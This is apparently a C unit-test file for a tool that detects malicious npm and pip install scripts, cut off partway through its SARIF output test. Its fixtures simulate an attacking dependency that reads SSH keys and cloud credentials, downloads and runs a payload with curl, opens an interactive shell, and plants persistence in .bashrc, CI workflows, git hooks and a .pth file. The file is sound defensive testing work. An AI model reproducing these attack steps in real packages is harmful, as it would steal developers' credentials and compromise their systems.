// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * test_analyze.c - the analysis on synthetic event streams: each incident
 * class of shared/incidents.md, a malicious transitive dependency, the
 * root project's own script, and the benign look-alikes that must stay at
 * info or low.  Records are built raw and go through event_decode().
 */
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <json-c/json.h>
#include "unit.h"
#include "evbuild.h"
#include "analyze_int.h"

#define PROJ "/work/proj"
#define NM PROJ "/node_modules"

static struct evb B;
static const char *const base_env[] = { "HOME=/root", "PATH=/usr/local/bin:/usr/bin:/bin", NULL };
static char *si_argv[] = { "npm", "ci", NULL };
static char *si_env[] = { "HOME=/root", "PATH=/usr/local/bin:/usr/bin:/bin", NULL };

static struct session_info session(void)
{
	struct session_info si = {
		.argc = 2, .argv = si_argv, .cwd = PROJ, .envc = 2, .env = si_env,
		.hostname = "host", .kernel = "6.18", .boot_offset_ns = 1700000000000000000ull,
		.start_ns = 1000, .end_ns = 5000000000ull, .root_pid = 100,
		.exit_status = 0, .events = 0, .drops = 0,
	};
	return si;
}

/* severity of the finding (rule, package), -1 when there is none */
static int sev_of(const struct report *r, const char *rule, const char *pkg)
{
	int best = -1;

	for (size_t i = 0; i < r->nfindings; i++) {
		const struct finding *f = &r->findings[i];
		const char *name = f->owner >= 0 ? r->owners[f->owner]->name : NULL;

		if (strcmp(rule_info[f->rule].id, rule))
			continue;
		if ((pkg && (!name || strcmp(name, pkg))) || (!pkg && name))
			continue;
		if (f->sev > best)
			best = f->sev;
	}
	return best;
}

/* highest severity of any finding for pkg (NULL: findings with no package) */
static int max_for(const struct report *r, const char *pkg)
{
	int best = -1;

	for (size_t i = 0; i < r->nfindings; i++) {
		const struct finding *f = &r->findings[i];
		const char *name = f->owner >= 0 ? r->owners[f->owner]->name : NULL;

		if ((pkg && name && !strcmp(name, pkg)) || (!pkg && !name))
			if (f->sev > best)
				best = f->sev;
	}
	return best;
}

static void dump(const struct report *r)
{
	for (size_t i = 0; i < r->nfindings; i++) {
		const struct finding *f = &r->findings[i];

		printf("#     %s %s %s: %s\n", severity_name(f->sev), rule_info[f->rule].id,
		       f->owner >= 0 && r->owners[f->owner]->name ? r->owners[f->owner]->name : "-",
		       f->summary);
	}
}

static void npm_script(struct analyzer *an, uint32_t parent, uint32_t pid, const char *name,
		       const char *version, const char *folder, const char *event, const char *script)
{
	char e1[128], e2[128], e3[128], e4[512], e5[512];
	const char *env[] = { e1, e2, e3, e4, e5, "HOME=/root", "PATH=" NM "/.bin:/usr/bin:/bin", NULL };
	const char *argv[] = { "sh", "-c", script, NULL };

	snprintf(e1, sizeof(e1), "npm_lifecycle_event=%s", event);
	snprintf(e2, sizeof(e2), "npm_package_name=%s", name);
	snprintf(e3, sizeof(e3), "npm_package_version=%s", version);
	snprintf(e4, sizeof(e4), "npm_package_json=%s/package.json", folder);
	snprintf(e5, sizeof(e5), "npm_lifecycle_script=%s", script);
	ev_fork(&B, an, parent, pid);
	ev_exec(&B, an, pid, "/bin/sh", argv, folder, env);
}

static void npm_start(struct analyzer *an)
{
	const char *argv[] = { "node", "/usr/bin/npm", "ci", NULL };

	ev_root(&B, an, 100);
	ev_exec(&B, an, 100, "/usr/bin/node", argv, PROJ, base_env);
	ev_open(&B, an, 100, "/root/.npmrc", O_RDONLY);
	ev_sock(&B, an, PT_EV_CONNECT, 100, "127.0.0.1", 4873, SOCK_STREAM, NULL, 0);
}

static void npm_install_pkg(struct analyzer *an, const char *folder)
{
	char p[512];

	snprintf(p, sizeof(p), "%s/package.json", folder);
	ev_open(&B, an, 100, p, O_WRONLY | O_CREAT | O_TRUNC);
	snprintf(p, sizeof(p), "%s/index.js", folder);
	ev_open(&B, an, 100, p, O_WRONLY | O_CREAT | O_TRUNC);
}

static void put(struct facts *f, const char *path, const char *text)
{
	facts_put(f, path, 0, text, strlen(text));
}

/* The lockfile another package manager would have written instead of
 * package-lock.json (npm_facts_alt), for the SARIF location tests. */
static const char *alt_lock_name, *alt_lock_text;

static struct facts *npm_facts(void)
{
	struct facts *f = facts_new(0);

	if (alt_lock_name) {
		/* the first answer for a path stands: no package-lock.json */
		facts_put(f, PROJ "/package-lock.json", -ENOENT, NULL, 0);
		put(f, alt_lock_name, alt_lock_text);
	}
	put(f, PROJ "/package.json",
	    "{\"name\":\"proj\",\"version\":\"1.0.0\",\"scripts\":{\"prepare\":\"husky\"},"
	    "\"allowScripts\":{\"esbuild\":true,\"core-js@3.38.0\":true,\"native-addon\":true,\"evil-dep\":true}}");
	put(f, PROJ "/.npmrc", "registry=http://127.0.0.1:4873/\n");
	put(f, NM "/esbuild/package.json", "{\"name\":\"esbuild\",\"version\":\"0.19.0\",\"scripts\":{\"postinstall\":\"node install.js\"}}");
	put(f, NM "/core-js/package.json", "{\"name\":\"core-js\",\"version\":\"3.38.0\",\"scripts\":{\"postinstall\":\"node -e x\"}}");
	put(f, NM "/native-addon/package.json", "{\"name\":\"native-addon\",\"version\":\"2.0.0\",\"scripts\":{\"install\":\"node-gyp rebuild\"}}");
	put(f, NM "/json-pretty-printer/package.json", "{\"name\":\"json-pretty-printer\",\"version\":\"1.0.0\",\"bin\":{\"json-pretty-printer\":\"bin/cli.js\"}}");
	put(f, NM "/skipper/package.json", "{\"name\":\"skipper\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node x.js\"}}");
	put(f, NM "/helper/package.json", "{\"name\":\"helper\",\"version\":\"1.2.3\"}");
	put(f, NM "/helper/node_modules/evil-dep/package.json", "{\"name\":\"evil-dep\",\"version\":\"6.6.6\",\"scripts\":{\"postinstall\":\"node index.js\"}}");
	put(f, NM "/ethers/package.json", "{\"name\":\"ethers\",\"version\":\"6.0.0\"}");
	put(f, NM "/awsish/package.json", "{\"name\":\"awsish\",\"version\":\"0.0.1\",\"bin\":{\"aws\":\"cli.js\"}}");
	put(f, "/etc/resolv.conf", "nameserver 10.0.0.53\n");
	/* the lockfile: who npm says each package is */
	put(f, PROJ "/package-lock.json",
	    "{\"name\":\"proj\",\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"proj\"},\n"
	    "\"node_modules/esbuild\":{\"version\":\"0.19.0\",\"resolved\":\"http://127.0.0.1:4873/esbuild/-/esbuild-0.19.0.tgz\"},\n"
	    "\"node_modules/core-js\":{\"version\":\"3.38.0\",\"resolved\":\"http://127.0.0.1:4873/core-js/-/core-js-3.38.0.tgz\"},\n"
	    "\"node_modules/native-addon\":{\"version\":\"2.0.0\",\"resolved\":\"http://127.0.0.1:4873/native-addon/-/native-addon-2.0.0.tgz\"},\n"
	    "\"node_modules/skipper\":{\"version\":\"1.0.0\",\"resolved\":\"http://127.0.0.1:4873/skipper/-/skipper-1.0.0.tgz\"},\n"
	    "\"node_modules/helper/node_modules/evil-dep\":{\"version\":\"6.6.6\",\"resolved\":\"http://127.0.0.1:4873/evil-dep/-/evil-dep-6.6.6.tgz\"}}}");
	return f;
}

/* The benign corpus: esbuild, core-js, a native addon, a bin of its own,
 * the project's husky prepare, and a package whose script npm skipped. */
static void feed_benign(struct analyzer *an)
{
	npm_start(an);
	npm_install_pkg(an, NM "/esbuild");
	npm_install_pkg(an, NM "/@esbuild/linux-x64");
	npm_install_pkg(an, NM "/core-js");
	npm_install_pkg(an, NM "/native-addon");
	npm_install_pkg(an, NM "/json-pretty-printer");
	npm_install_pkg(an, NM "/skipper");
	ev_path2(&B, an, PT_EV_SYMLINK, 100, NM "/.bin/esbuild", "../esbuild/bin/esbuild");
	ev_path2(&B, an, PT_EV_SYMLINK, 100, NM "/.bin/json-pretty-printer", "../json-pretty-printer/bin/cli.js");

	/* esbuild: copies its platform binary into its own bin/ and runs it */
	npm_script(an, 100, 101, "esbuild", "0.19.0", NM "/esbuild", "postinstall", "node install.js");
	{
		const char *argv[] = { "node", "install.js", NULL };
		const char *argv2[] = { NM "/esbuild/bin/esbuild", "--version", NULL };

		ev_fork(&B, an, 101, 102);
		ev_exec(&B, an, 102, "/usr/bin/node", argv, NM "/esbuild", base_env);
		ev_open(&B, an, 102, NM "/@esbuild/linux-x64/bin/esbuild", O_RDONLY);
		ev_open(&B, an, 102, NM "/esbuild/bin/esbuild.tmp", O_WRONLY | O_CREAT | O_TRUNC);
		ev_path2(&B, an, PT_EV_RENAME, 102, NM "/esbuild/bin/esbuild.tmp", NM "/esbuild/bin/esbuild");
		ev_chmod(&B, an, 102, NM "/esbuild/bin/esbuild", 0755);
		ev_fork(&B, an, 102, 103);
		ev_exec(&B, an, 103, NM "/esbuild/bin/esbuild", argv2, NM "/esbuild", base_env);
		ev_exit(&B, an, 103);
		ev_exit(&B, an, 102);
		ev_exit(&B, an, 101);
	}
	/* core-js: a banner and one temp file */
	npm_script(an, 100, 111, "core-js", "3.38.0", NM "/core-js", "postinstall",
		   "node -e \"try{require('./postinstall')}catch(e){}\"");
	{
		const char *argv[] = { "node", "-e", "try{require('./postinstall')}catch(e){}", NULL };

		ev_fork(&B, an, 111, 112);
		ev_exec(&B, an, 112, "/usr/bin/node", argv, NM "/core-js", base_env);
		ev_open(&B, an, 112, "/tmp/core-js-banner", O_WRONLY | O_CREAT);
		ev_exit(&B, an, 112);
		ev_exit(&B, an, 111);
	}
	/* a native addon: node-gyp, make and cc inside its own folder */
	npm_script(an, 100, 121, "native-addon", "2.0.0", NM "/native-addon", "install", "node-gyp rebuild");
	{
		const char *gyp[] = { "node", "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js", "rebuild", NULL };
		const char *py[] = { "python3", "-c", "import sys; print(sys.executable)", NULL };
		const char *mk[] = { "make", "BUILDTYPE=Release", "-C", "build", NULL };
		const char *cc[] = { "cc", "-o", "Release/obj.target/addon.o", "../addon.c", NULL };
		const char *cc1[] = { "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", NULL };

		ev_fork(&B, an, 121, 122);
		ev_exec(&B, an, 122, "/usr/bin/node", gyp, NM "/native-addon", base_env);
		ev_open(&B, an, 122, "/root/.cache/node-gyp/20.0.0/include/node/common.gypi", O_RDONLY);
		ev_fork(&B, an, 122, 123);
		ev_exec(&B, an, 123, "/usr/bin/python3", py, NM "/native-addon", base_env);
		ev_exit(&B, an, 123);
		ev_open(&B, an, 122, NM "/native-addon/build/Makefile", O_WRONLY | O_CREAT | O_TRUNC);
		ev_fork(&B, an, 122, 124);
		ev_exec_ret(&B, an, 124, "/usr/local/bin/make", mk, NM "/native-addon/build", base_env, -2, 0);
		ev_exec(&B, an, 124, "/usr/bin/make", mk, NM "/native-addon/build", base_env);
		ev_fork(&B, an, 124, 125);
		ev_exec(&B, an, 125, "/usr/bin/cc", cc, NM "/native-addon/build", base_env);
		ev_fork(&B, an, 125, 126);
		ev_exec(&B, an, 126, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", cc1, NM "/native-addon/build", base_env);
		ev_open(&B, an, 126, "/tmp/ccAbc.s", O_WRONLY | O_CREAT | O_TRUNC);
		ev_exit(&B, an, 126);
		ev_open(&B, an, 125, NM "/native-addon/build/Release/obj.target/addon.o", O_WRONLY | O_CREAT | O_TRUNC);
		ev_open(&B, an, 125, NM "/native-addon/build/Release/addon.node", O_WRONLY | O_CREAT | O_TRUNC);
		ev_exit(&B, an, 125);
		ev_exit(&B, an, 124);
		ev_open(&B, an, 122, NM "/native-addon/build/Release/addon.node", O_RDONLY);
		ev_exit(&B, an, 122);
		ev_exit(&B, an, 121);
	}
	/* the project's own prepare: husky writes git hooks and .git/config */
	npm_script(an, 100, 131, "proj", "1.0.0", PROJ, "prepare", "husky");
	{
		const char *argv[] = { "git", "config", "core.hooksPath", ".husky/_", NULL };

		ev_open(&B, an, 131, PROJ "/.husky/_/pre-commit", O_WRONLY | O_CREAT);
		ev_chmod(&B, an, 131, PROJ "/.husky/_/pre-commit", 0755);
		ev_fork(&B, an, 131, 132);
		ev_exec(&B, an, 132, "/usr/bin/git", argv, PROJ, base_env);
		ev_open(&B, an, 132, PROJ "/.git/config", O_WRONLY | O_CREAT | O_TRUNC);
		ev_exit(&B, an, 132);
		ev_exit(&B, an, 131);
	}
	ev_open(&B, an, 100, NM "/.package-lock.json", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 100, "/root/.npm/_logs/debug-0.log", O_WRONLY | O_CREAT | O_APPEND);
	ev_exit(&B, an, 100);
}

static struct report *run(void (*feed)(struct analyzer *), struct facts *(*mkfacts)(void),
			  struct session_info *si_in)
{
	char err[256];
	struct baseline *bl = baseline_load(NULL, err, sizeof(err));
	struct session_info si = si_in ? *si_in : session();
	struct analyzer *an = bl ? analyzer_new(bl, &si) : NULL;
	struct facts *f = mkfacts();
	struct report *r = NULL;

	B.clock = 0;  /* same input, same times */
	CHECK(bl != NULL);
	CHECK(an != NULL);
	if (an) {
		feed(an);
		r = analyzer_finish(an, &si, f);
	}
	analyzer_free(an);
	baseline_free(bl);
	facts_free(f);
	CHECK(r != NULL);
	CHECK_INT(B.bad, 0);
	return r;
}

static void test_benign_npm_stays_quiet(void)
{
	struct report *r = run(feed_benign, npm_facts, NULL);

	if (!r)
		return;
	CHECK(report_max_severity(r) <= SEV_LOW);
	CHECK_INT(sev_of(r, "install-script", "esbuild"), SEV_INFO);
	CHECK_INT(sev_of(r, "install-script", "core-js"), SEV_INFO);
	CHECK_INT(sev_of(r, "install-script", "native-addon"), SEV_INFO);
	CHECK_INT(sev_of(r, "dropper", "esbuild"), -1);
	CHECK_INT(max_for(r, "proj"), -1);     /* the project's own script is not judged */
	CHECK_INT(max_for(r, "json-pretty-printer"), -1);
	CHECK_INT(sev_of(r, "install-script", "skipper"), -1);
	for (size_t i = 0; i < r->nowners; i++) {
		const struct owner *o = r->owners[i];

		if (o->name && !strcmp(o->name, "skipper"))
			CHECK_STR(o->skipped, "preinstall");
		if (o->name && !strcmp(o->name, "esbuild")) {
			CHECK_INT(o->approved, 1);
			CHECK_STR(o->version, "0.19.0");
		}
		if (o->name && !strcmp(o->name, "core-js"))
			CHECK_INT(o->approved, 1);
	}
	if (report_max_severity(r) > SEV_LOW)
		dump(r);
	report_free(r);
}

/* A direct dependency "helper" pulls in evil-dep, whose postinstall does
 * what the incidents did; everything must land on evil-dep. */
static void feed_attack(struct analyzer *an)
{
	const char *folder = NM "/helper/node_modules/evil-dep";
	const char *node[] = { "node", "index.js", NULL };
	const char *curl[] = { "curl", "-s", "-o", "/tmp/x/payload", "http://127.0.0.1:9999/p", NULL };
	const char *payload[] = { "/tmp/x/payload", NULL };
	const char *shi[] = { "/bin/sh", "-i", NULL };
	const char *memfd[] = { "x", NULL };
	static const uint8_t dnsq[] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0,
					4, 'r', 'o', 'o', 't', 4, 'e', 'v', 'i', 'l', 4, 't', 'e', 's', 't', 0,
					0, 1, 0, 1 };

	npm_start(an);
	npm_install_pkg(an, NM "/helper");
	npm_install_pkg(an, folder);
	npm_install_pkg(an, NM "/ethers");
	npm_install_pkg(an, NM "/awsish");
	/* command-jacking with no script at all */
	ev_path2(&B, an, PT_EV_SYMLINK, 100, NM "/.bin/aws", "../awsish/cli.js");
	npm_script(an, 100, 201, "evil-dep", "6.6.6", folder, "postinstall", "node index.js");
	ev_fork(&B, an, 201, 202);
	ev_exec(&B, an, 202, "/usr/bin/node", node, folder, base_env);
	ev_open(&B, an, 202, "/root/.npmrc", O_RDONLY);
	ev_open(&B, an, 202, "/root/.ssh/id_ed25519", O_RDONLY);
	ev_open(&B, an, 202, "/root/.ssh/id_ed25519.pub", O_RDONLY);
	ev_open(&B, an, 202, "/proc/555/environ", O_RDONLY);
	ev_open(&B, an, 202, "/proc/202/environ", O_RDONLY);
	ev_sock(&B, an, PT_EV_CONNECT, 202, "127.0.0.1", 4873, SOCK_STREAM, NULL, 0);
	ev_sock(&B, an, PT_EV_CONNECT, 202, "127.0.0.1", 9999, SOCK_STREAM, NULL, 0);
	ev_sock(&B, an, PT_EV_SEND, 202, "127.0.0.1", 53, SOCK_DGRAM, dnsq, sizeof(dnsq));
	ev_fork(&B, an, 202, 203);
	ev_exec_ret(&B, an, 203, "/usr/local/bin/curl", curl, folder, base_env, -2, 0);
	ev_exec(&B, an, 203, "/usr/bin/curl", curl, folder, base_env);
	ev_open(&B, an, 203, "/tmp/x/payload", O_WRONLY | O_CREAT | O_TRUNC);
	ev_exit(&B, an, 203);
	ev_chmod(&B, an, 202, "/tmp/x/payload", 0755);
	ev_fork(&B, an, 202, 204);
	ev_exec(&B, an, 204, "/tmp/x/payload", payload, folder, base_env);  /* never exits */
	ev_open(&B, an, 202, "/root/.bashrc", O_WRONLY | O_APPEND);
	ev_open(&B, an, 202, NM "/ethers/lib/index.js", O_WRONLY | O_TRUNC);
	ev_open(&B, an, 202, PROJ "/.github/workflows/ci.yml", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 202, PROJ "/.git/hooks/pre-commit", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 202, "/opt/elsewhere/data", O_WRONLY | O_CREAT | O_TRUNC);
	ev_sock(&B, an, PT_EV_LISTEN, 202, "0.0.0.0", 4444, SOCK_STREAM, NULL, 0);
	ev_chmod(&B, an, 202, "/tmp/x/payload", 04755);
	ev_fork(&B, an, 202, 205);
	ev_exec(&B, an, 205, "/bin/sh", shi, folder, base_env);
	ev_exit(&B, an, 205);
	ev_fork(&B, an, 202, 206);
	ev_exec_ret(&B, an, 206, "/memfd:x (deleted)", memfd, folder, base_env, 0, PT_F_MEMFD | PT_F_DELETED);
	ev_exit(&B, an, 206);
	ev_exit(&B, an, 202);
	ev_exit(&B, an, 201);
	ev_exit(&B, an, 100);
}

static void test_attack_transitive(void)
{
	struct report *r = run(feed_attack, npm_facts, NULL);
	const char *e = "evil-dep";

	if (!r)
		return;
	CHECK_INT(sev_of(r, "install-script", e), SEV_INFO);
	CHECK_INT(sev_of(r, "credential-access", e), SEV_HIGH);
	CHECK_INT(sev_of(r, "network-egress", e), SEV_HIGH);  /* downloaded and ran */
	CHECK_INT(sev_of(r, "dns-query", e), SEV_HIGH);       /* its own resolver */
	CHECK_INT(sev_of(r, "dropper", e), SEV_HIGH);
	CHECK_INT(sev_of(r, "lingering-process", e), SEV_HIGH);
	CHECK_INT(sev_of(r, "persistence", e), SEV_HIGH);
	CHECK_INT(sev_of(r, "tamper", e), SEV_HIGH);
	CHECK_INT(sev_of(r, "write-outside-project", e), SEV_MEDIUM);
	CHECK_INT(sev_of(r, "listen-socket", e), SEV_MEDIUM);
	CHECK_INT(sev_of(r, "privilege-change", e), SEV_HIGH);
	CHECK_INT(sev_of(r, "unexpected-exec", e), SEV_CRITICAL); /* sh -i */
	CHECK_INT(sev_of(r, "fileless-exec", e), SEV_CRITICAL);
	CHECK_INT(sev_of(r, "command-shadowing", "awsish"), SEV_HIGH);
	CHECK_INT(max_for(r, "helper"), -1);   /* blame stays with the transitive dep */
	CHECK_INT(max_for(r, "ethers"), -1);   /* the victim is not blamed */
	CHECK_INT(max_for(r, NULL), -1);
	CHECK_INT(report_max_severity(r), SEV_CRITICAL);
	/* the registry connection and the public key are not findings */
	for (size_t i = 0; i < r->nfindings; i++) {
		const struct finding *f = &r->findings[i];

		for (int k = 0; k < f->nev; k++) {
			CHECK(!f->ev[k].endpoint || !strstr(f->ev[k].endpoint, ":4873"));
			CHECK(!f->ev[k].path || !strstr(f->ev[k].path, ".pub"));
			CHECK(!f->ev[k].path || strcmp(f->ev[k].path, "/proc/202/environ"));
		}
	}
	if (unit_failed_checks)
		dump(r);
	report_free(r);
}

/* A script must not hand its blame to another package by faking npm_*
 * variables for its children. */
static void feed_fake_env(struct analyzer *an)
{
	const char *fake[] = { "npm_lifecycle_event=postinstall", "npm_package_name=ethers",
			       "npm_package_json=" NM "/ethers/package.json", "HOME=/root", NULL };
	const char *cat[] = { "cat", "/root/.aws/credentials", NULL };

	npm_start(an);
	npm_install_pkg(an, NM "/evil-dep");
	npm_script(an, 100, 301, "evil-dep", "6.6.6", NM "/evil-dep", "postinstall", "sh run.sh");
	ev_fork(&B, an, 301, 302);
	ev_exec(&B, an, 302, "/bin/cat", cat, NM "/evil-dep", fake);
	ev_open(&B, an, 302, "/root/.aws/credentials", O_RDONLY);
	ev_exit(&B, an, 302);
	ev_exit(&B, an, 301);
	ev_exit(&B, an, 100);
}

static void test_fake_env_keeps_blame(void)
{
	struct report *r = run(feed_fake_env, npm_facts, NULL);

	if (!r)
		return;
	CHECK_INT(sev_of(r, "credential-access", "evil-dep"), SEV_HIGH);
	CHECK_INT(max_for(r, "ethers"), -1);
	report_free(r);
}

/* An environment cut before npm's variables: the script's cwd names it. */
static void feed_env_cut(struct analyzer *an)
{
	const char *sh[] = { "sh", "-c", "node steal.js", NULL };
	const char *node[] = { "node", "steal.js", NULL };

	npm_start(an);
	npm_install_pkg(an, NM "/@scope/cut");
	ev_fork(&B, an, 100, 501);
	ev_exec(&B, an, 501, "/bin/sh", sh, NM "/@scope/cut", base_env);
	ev_fork(&B, an, 501, 502);
	ev_exec(&B, an, 502, "/usr/bin/node", node, NM "/@scope/cut", base_env);
	ev_open(&B, an, 502, "/root/.git-credentials", O_RDONLY);
	ev_exit(&B, an, 502);
	ev_exit(&B, an, 501);
	ev_exit(&B, an, 100);
}

static void test_env_cut_falls_back_to_cwd(void)
{
	struct report *r = run(feed_env_cut, npm_facts, NULL);

	if (!r)
		return;
	CHECK_INT(sev_of(r, "credential-access", "@scope/cut"), SEV_HIGH);
	CHECK_INT(sev_of(r, "install-script", "@scope/cut"), SEV_INFO);
	CHECK_INT(max_for(r, NULL), -1);
	report_free(r);
}

/* pip: an sdist's build hook and what pip installed from its RECORD. */
#define VENV "/work/venv"
#define SITE VENV "/lib/python3.11/site-packages"
#define BUILD "/tmp/pip-install-abc/evilpy_0123456789abcdef0123456789abcdef"
#define CBUILD "/tmp/pip-install-abc/cext_00000000000000000000000000000000"

static void feed_pip(struct analyzer *an)
{
	const char *pip[] = { VENV "/bin/python", "-m", "pip", "install", "./evilpy-1.0.tar.gz", NULL };
	const char *hook[] = { VENV "/bin/python", SITE "/pip/_vendor/pyproject_hooks/_in_process/_in_process.py",
			       "build_wheel", "/tmp/tmpabc", NULL };
	const char *gcc[] = { "x86_64-linux-gnu-gcc", "-c", "cext.c", "-o", "build/temp/cext.o", NULL };

	ev_root(&B, an, 400);
	ev_exec(&B, an, 400, VENV "/bin/python", pip, PROJ, base_env);
	ev_fork(&B, an, 400, 401);
	ev_exec(&B, an, 401, VENV "/bin/python", hook, BUILD, base_env);
	ev_open(&B, an, 401, BUILD "/build/lib/evilpy/__init__.py", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 401, BUILD "/evilpy.egg-info/PKG-INFO", O_WRONLY | O_CREAT | O_TRUNC);
	ev_exit(&B, an, 401);
	/* a C extension: gcc inside its own build tree */
	ev_fork(&B, an, 400, 411);
	ev_exec(&B, an, 411, VENV "/bin/python", hook, CBUILD, base_env);
	ev_fork(&B, an, 411, 412);
	ev_exec(&B, an, 412, "/usr/bin/x86_64-linux-gnu-gcc", gcc, CBUILD, base_env);
	ev_open(&B, an, 412, CBUILD "/build/temp/cext.o", O_WRONLY | O_CREAT | O_TRUNC);
	ev_exit(&B, an, 412);
	ev_exit(&B, an, 411);
	/* a stealer built from a req-build dir pip removes before the end:
	 * named by the wheel its hook writes */
	ev_fork(&B, an, 400, 421);
	ev_exec(&B, an, 421, VENV "/bin/python", hook, "/tmp/pip-req-build-zzz", base_env);
	ev_open(&B, an, 421, SITE "/setuptools/__pycache__/dist.cpython-311.pyc", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 421, "/root/.aws/credentials", O_RDONLY);
	ev_open(&B, an, 421, "/tmp/tmpabc/pycolorsx-0.3-py3-none-any.whl", O_WRONLY | O_CREAT | O_TRUNC);
	ev_exit(&B, an, 421);
	ev_open(&B, an, 400, SITE "/evilpy/__init__.py", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 400, VENV "/bin/aws", O_WRONLY | O_CREAT | O_TRUNC);
	ev_chmod(&B, an, 400, VENV "/bin/aws", 0755);
	ev_open(&B, an, 400, VENV "/bin/evilpy-cli", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 400, SITE "/evil.pth", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 400, SITE "/distutils-precedence.pth", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 400, SITE "/evilpy-1.0.dist-info/RECORD", O_WRONLY | O_CREAT | O_TRUNC);
	ev_open(&B, an, 400, SITE "/cext-2.0.dist-info/RECORD", O_WRONLY | O_CREAT | O_TRUNC);
	ev_exit(&B, an, 400);
}

static struct facts *pip_facts(void)
{
	struct facts *f = facts_new(0);

	if (alt_lock_name)
		put(f, alt_lock_name, alt_lock_text);
	put(f, BUILD "/PKG-INFO", "Metadata-Version: 2.1\nName: evilpy\nVersion: 1.0\n");
	put(f, CBUILD "/PKG-INFO", "Metadata-Version: 2.1\nName: cext\nVersion: 2.0\n");
	put(f, SITE "/evilpy-1.0.dist-info/RECORD",
	    "evilpy/__init__.py,sha256=abc,10\n../../../bin/aws,sha256=def,20\n"
	    "../../../bin/evilpy-cli,sha256=ghi,20\nevil.pth,sha256=jkl,30\n");
	put(f, SITE "/cext-2.0.dist-info/RECORD", "cext.so,sha256=x,1\n");
	put(f, SITE "/evil.pth", "import os; os.system('sleep 1')\n");
	put(f, SITE "/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n");
	return f;
}

static void test_pip_record_attribution(void)
{
	static char *argv[] = { "python", "-m", "pip", "install", "./evilpy-1.0.tar.gz", NULL };
	struct session_info si = session();
	struct report *r;

	si.argc = 5;
	si.argv = argv;
	si.root_pid = 400;
	r = run(feed_pip, pip_facts, &si);
	if (!r)
		return;
	CHECK_INT(sev_of(r, "install-script", "evilpy"), SEV_INFO);
	CHECK_INT(sev_of(r, "command-shadowing", "evilpy"), SEV_HIGH);
	CHECK_INT(sev_of(r, "persistence", "evilpy"), SEV_HIGH);
	CHECK_INT(sev_of(r, "install-script", "cext"), SEV_INFO);
	CHECK_INT(sev_of(r, "credential-access", "pycolorsx"), SEV_HIGH);
	CHECK_INT(max_for(r, "pycolorsx"), SEV_HIGH);  /* its .pyc cache is no tamper */
	CHECK(max_for(r, "cext") <= SEV_LOW);
	CHECK_INT(max_for(r, NULL), -1);
	/* one persistence finding: distutils-precedence.pth is benign */
	for (size_t i = 0; i < r->nfindings; i++)
		if (r->findings[i].rule == R_PERSISTENCE)
			CHECK_INT(r->findings[i].count, 1);
	if (unit_failed_checks)
		dump(r);
	report_free(r);
}

static void feed_none(struct analyzer *an)
{
	npm_start(an);
	ev_exit(&B, an, 100);
}

static void test_trace_incomplete(void)
{
	struct session_info si = session();
	struct report *r;

	si.drops = 42;
	r = run(feed_none, npm_facts, &si);
	if (!r)
		return;
	CHECK_INT(sev_of(r, "trace-incomplete", NULL), SEV_HIGH);
	CHECK_INT(r->drops, 42);
	report_free(r);
}

static char *render(struct report *r, enum report_format fmt)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	CHECK(f != NULL);
	if (!f)
		return NULL;
	CHECK_INT(report_write(r, f, fmt, false), 0);
	fclose(f);
	return buf;
}

static void test_deterministic_output(void)
{
	struct report *a = run(feed_attack, npm_facts, NULL), *b = run(feed_attack, npm_facts, NULL);

	for (int fmt = FMT_TEXT; a && b && fmt <= FMT_SARIF; fmt++) {
		char *x = render(a, fmt), *y = render(b, fmt);

		CHECK(x && y && !strcmp(x, y));
		free(x);
		free(y);
	}
	report_free(a);
	report_free(b);
}

static void test_json_fields(void)
{
	struct report *r = run(feed_attack, npm_facts, NULL);
	char *s = r ? render(r, FMT_JSON) : NULL;
	struct json_object *j = s ? json_tokener_parse(s) : NULL, *v, *fs, *f0, *pk;

	CHECK(j != NULL);
	if (j) {
		CHECK(json_object_object_get_ex(j, "summary", &v) &&
		      json_object_object_get_ex(v, "max_severity", &v) &&
		      !strcmp(json_object_get_string(v), "critical"));
		CHECK(json_object_object_get_ex(j, "findings", &fs) && json_object_array_length(fs) > 5);
		f0 = json_object_array_get_idx(fs, 0);
		CHECK(json_object_object_get_ex(f0, "rule", &v));
		CHECK(json_object_object_get_ex(f0, "severity", &v) && !strcmp(json_object_get_string(v), "critical"));
		CHECK(json_object_object_get_ex(f0, "package", &v) && !strcmp(json_object_get_string(v), "evil-dep"));
		CHECK(json_object_object_get_ex(f0, "evidence", &v) && json_object_array_length(v) >= 1);
		CHECK(json_object_object_get_ex(j, "packages", &pk) && json_object_array_length(pk) >= 3);
		CHECK(json_object_object_get_ex(json_object_array_get_idx(pk, 0), "name", &v) &&
		      !strcmp(json_object_get_string(v), "evil-dep"));
		CHECK(json_object_object_get_ex(json_object_array_get_idx(pk, 0), "version", &v) &&
		      !strcmp(json_object_get_string(v), "6.6.6"));
		CHECK(json_object_object_get_ex(j, "command", &v) &&
		      json_object_object_get_ex(v, "exit_code", &v) && json_object_get_int(v) == 0);
	}
	json_object_put(j);
	free(s);
	report_free(r);
}

static void test_sarif_structure(void)
{
	struct report *r = run(feed_attack, npm_facts, NULL);
	char *s = r ? render(r, FMT_SARIF) : NULL;
	struct json_object *j = s ? json_tokener_parse(s) : NULL, *v, *run0, *res, *rules;

	CHECK(j != NULL);
	if (j) {
		CHECK(json_object_object_get_ex(j, "version", &v) && !strcmp(json_object_get_string(v), "2.1.0"));
		CHECK(json_object_object_get_ex(j, "runs", &v) && json_object_array_length(v) == 1);
		run0 = json_object_array_get_idx(v, 0);
